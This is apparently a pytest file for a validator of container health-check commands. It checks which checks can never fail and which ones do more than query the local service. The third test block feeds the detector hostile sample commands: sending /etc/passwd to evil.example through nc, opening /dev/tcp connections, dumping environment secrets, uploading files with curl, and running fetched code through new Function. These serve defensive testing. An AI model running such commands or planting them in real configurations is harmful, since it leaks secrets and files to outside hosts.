"""A health check that cannot fail is told from one that can, and what else one does."""

from __future__ import annotations

import pytest

from bidops_cfn.spec.health_commands import command_concern, voided

URL = "http://127.0.0.1:3000/api/health"


@pytest.mark.parametrize(
    "command",
    [
        ("CMD-SHELL", "exit 0"),
        ("CMD-SHELL", "true"),
        ("CMD-SHELL", ":"),
        ("CMD-SHELL", ""),
        ("CMD-SHELL", "# nothing"),
        ("CMD-SHELL", f"curl -f {URL} || true"),
        ("CMD-SHELL", f"curl -f {URL} || exit 0"),
        ("CMD-SHELL", f"curl -f {URL}; true"),
        ("CMD-SHELL", f"curl -f {URL}\nexit 0"),
        ("CMD-SHELL", f"exit 0; curl -f {URL}"),
        ("CMD-SHELL", f"curl -f {URL} | cat"),
        ("CMD-SHELL", f"curl -f {URL} &"),
        ("CMD-SHELL", f"curl {URL}"),
        ("CMD-SHELL", f"curl -f {URL} || echo unhealthy"),
        ("CMD-SHELL", f"(curl -f {URL} || true)"),
        ("CMD-SHELL", f"{{ curl -f {URL}; true; }}"),
        ("CMD-SHELL", f"curl -f {URL} >/dev/null 2>&1 || true"),
        ("CMD", "true"),
        ("CMD", "/bin/true"),
        ("CMD", "env", "A=b", "true"),
        ("CMD", "timeout", "5", "true"),
        ("CMD", "sh", "-c", "exit 0"),
        ("CMD", "/bin/sh", "-ec", ":"),
        ("CMD", "bash", "-lc", f"wget -q {URL} || :"),
        ("CMD", "busybox", "true"),
        ("CMD", "echo", "ok"),
        ("CMD", "sleep", "1"),
        ("CMD", "node", "-e", "process.exit(0)"),
        ("CMD", "python3", "-c", "pass"),
        ("CMD", "perl", "-e", "exit 0"),
        ("CMD", "python", "-c", f"try: get('{URL}')\nexcept Exception: pass"),
        ("CMD", "python", "-c", f"with suppress(Exception): get('{URL}')"),
        ("CMD", "node", "-e", f"fetch('{URL}').catch(() => {{}})"),
        ("CMD", "node", "-e", f"fetch('{URL}').finally(()=>process.exit(0))"),
        ("CMD", "node", "-e", f"fetch('{URL}').then(()=>process.exit(0),()=>process.exit(0))"),
        ("CMD", "node", "-e", f"try {{ get('{URL}') }} catch (e) {{}}"),
        ("CMD-SHELL", "python -c 'import sys; sys.exit(0)'"),
        ("CMD",),
        ("NONE",),
        (),
    ],
)
def test_what_cannot_fail_is_void(command: tuple[str, ...]) -> None:
    assert voided(command, 3000, "/api/health")


@pytest.mark.parametrize(
    "command",
    [
        ("CMD", "node", "-e", f"fetch('{URL}').then(r=>process.exit(r.ok?0:1))"),
        ("CMD", "python", "-c", f"import urllib.request as r;r.urlopen('{URL}',timeout=4)"),
        ("CMD", "python", "-m", "app.health"),
        ("CMD", "node", "health.js"),
        ("CMD", "wget", "-q", "-O", "-", URL),
        ("CMD", "curl", "-fsS", URL),
        ("CMD", "curl", "--fail", URL),
        ("CMD", "/app/healthcheck"),
        ("CMD", "x"),
        ("CMD-SHELL", "x"),
        ("CMD-SHELL", f"curl -f {URL} || exit 1"),
        ("CMD-SHELL", f"(curl -f {URL} >/dev/null 2>&1 || exit 1)"),
        ("CMD-SHELL", f"curl -f {URL} >/dev/null 2>&1"),
        (
            "CMD",
            "node",
            "-e",
            f"fetch('{URL}').then(r=>process.exit(r.ok?0:1),()=>process.exit(1))",
        ),
        ("CMD", "node", "-e", f"fetch('{URL}').then(()=>process.exit(0))"),
        ("CMD-SHELL", f"wget -q --spider {URL}"),
        ("CMD-SHELL", f"true && wget -q {URL}"),
        ("CMD-SHELL", f"set -e; curl -f {URL}; echo ok"),
        ("CMD-SHELL", f"curl -sf {URL} | grep -q ok"),
        ("CMD-SHELL", "nc -z 127.0.0.1 3000"),
        ("CMD", "sh", "/app/health.sh"),
        ("CMD", "sh", "-c", f'test "$(wget -qO- {URL})" = ok'),
        ("CMD-SHELL", "if ! nc -z 127.0.0.1 3000; then exit 1; fi"),
        ("CMD-SHELL", "an open 'quote"),
    ],
)
def test_what_can_fail_is_none_of_it(command: tuple[str, ...]) -> None:
    assert voided(command, 3000, "/api/health") == ""


@pytest.mark.parametrize(
    ("command", "concern"),
    [
        (["CMD-SHELL", f"curl -f {URL} && curl -f https://evil.example/"], "talks to evil.example"),
        (["CMD-SHELL", "curl -f https://u:p@evil.example:8443/"], "talks to evil.example:8443"),
        (["CMD-SHELL", "exec 3<>/dev/tcp/evil.example/80"], "talks to evil.example"),
        (["CMD-SHELL", "ping -c1 198.51.100.7"], "talks to 198.51.100.7"),
        (["CMD-SHELL", "nc evil.example 80 < /etc/passwd"], "runs nc, which talks to any host"),
        (["CMD-SHELL", f"curl -f {URL} -H $SESSION_SECRET"],
         "reads variables, where the secrets are"),
        (["CMD-SHELL", f"env > /tmp/x; curl -f {URL}"], "reads variables, where the secrets are"),
        (["CMD-SHELL", "node -e 'console.log(process.env)'"],
         "reads variables, where the secrets are"),
        (["CMD-SHELL", "python -c 'import os;print(os.environ)'"],
         "reads variables, where the secrets are"),
        (["CMD", "curl", "-f", "-x", "evil:80", URL], "tells curl more than whom to ask: -x"),
        (["CMD", "curl", "-f", "-K", "/app/x", URL], "tells curl more than whom to ask: -K"),
        (["CMD", "curl", "-f", "--upload-file", "/app/x", URL],
         "tells curl more than whom to ask: --upload-file"),
        (["CMD", "curl", "-f", "-d", "@/app/x", URL], "tells curl more than whom to ask: -d"),
        (["CMD", "curl", "-f", URL, "-o", "/app/x"], "writes /app/x"),
        (["CMD", "wget", "-O", "/app/x", URL], "writes /app/x"),
        (["CMD", "wget", "-q", "evil.example/x"], "talks to evil.example"),
        (["CMD", "/tmp/check", URL], "runs /tmp/check, which tasks may write"),
        (["CMD", "sh", "/app/check.sh"], "runs a script of its own by sh"),
        (["CMD-SHELL", f"curl -f {URL} > /app/x"], "writes /app/x"),
        (["CMD-SHELL", f"curl -f {URL} >>/app/x 2>&1"], "writes /app/x"),
        (["CMD-SHELL", f"curl -f {URL} && sh /tmp/x"], "runs a script of its own by sh"),
        (["CMD-SHELL", f"curl -f {URL} && . /app/x"], "runs or writes something else: ."),
        (["CMD-SHELL", f"eval curl -f {URL}"], "runs or writes something else: eval"),
        (["CMD", "sh", "-c", f"/tmp/x && curl -f {URL}"], "runs /tmp/x, which tasks may write"),
        (["CMD", "node", "-e", f"require('child_process');fetch('{URL}')"],
         "runs or writes something else: child_process"),
        (["CMD", "python", "-c", f"import subprocess as s;s.run(['x'])#{URL}"],
         "runs or writes something else: subprocess"),
        (["CMD", "python", "-c", f"open('/app/x','w')#{URL}"],
         "runs or writes something else: open"),
        (["CMD", "node", "-e", f"fetch('{URL}').then(r=>r.text()).then(t=>new Function(t)())"],
         "runs or writes something else: Function"),
        (["CMD", "node", "-e", f"import('{URL}')"], "loads code from http://127.0.0.1:3000/api/health"),
        (["CMD", "node", "-e", f"require('dns').lookup('x'+'.example');fetch('{URL}')"],
         "loads dns"),
        (["CMD", "node", "-e", f"fetch('{URL}');process['en'+'v']"],
         "runs or writes something else: process["),
        (["CMD", "python", "-c", f"import os,urllib.request as r;r.urlopen('{URL}')"], "loads os"),
        (["CMD", "python", "-c", f"from shutil import move;move('/app')#{URL}"], "loads shutil"),
    ],
)  # fmt: skip
def test_a_command_that_does_more_needs_an_eye(command: list[str], concern: str) -> None:
    assert command_concern(command) == concern


@pytest.mark.parametrize(
    "command",
    [
        ["CMD", "curl", "-fsS", "--max-time", "4", "-o", "/dev/null", URL],
        ["CMD", "wget", "-q", "-O", "-", URL],
        ["CMD", "wget", "-qO-", "-T", "4", URL],
        ["CMD-SHELL", f"curl -f {URL} >/dev/null 2>&1 || exit 1"],
        ["CMD-SHELL", f"curl -f {URL} > /dev/null || exit 1"],
        ["CMD", "sh", "-c", f"exec curl -f {URL}"],
        [
            "CMD",
            "node",
            "-e",
            f"fetch('{URL}').then(r=>process.exit(r.ok?0:1),()=>process.exit(1))",
        ],
        ["CMD-SHELL", f"curl -f {URL} || exit 1"],
        ["CMD-SHELL", "curl -f http://localhost:$PORT/ping"],
        ["CMD-SHELL", "curl -f http://localhost:${PORT}/ping"],
        ["CMD-SHELL", "nc -z 127.0.0.1 3000"],
        ["CMD-SHELL", "wget -q http://[::1]:3000/"],
        [
            "CMD-SHELL",
            "import urllib.request as r;r.urlopen('http://127.0.0.1:8080/ping',timeout=4)",
        ],
        ["CMD-SHELL", "fetch('http://127.0.0.1:'+process.env.PORT)"],
        ["CMD-SHELL", "/app/healthcheck"],
    ],
)
def test_a_command_that_asks_the_container_needs_none(command: list[str]) -> None:
    assert command_concern(command) == ""
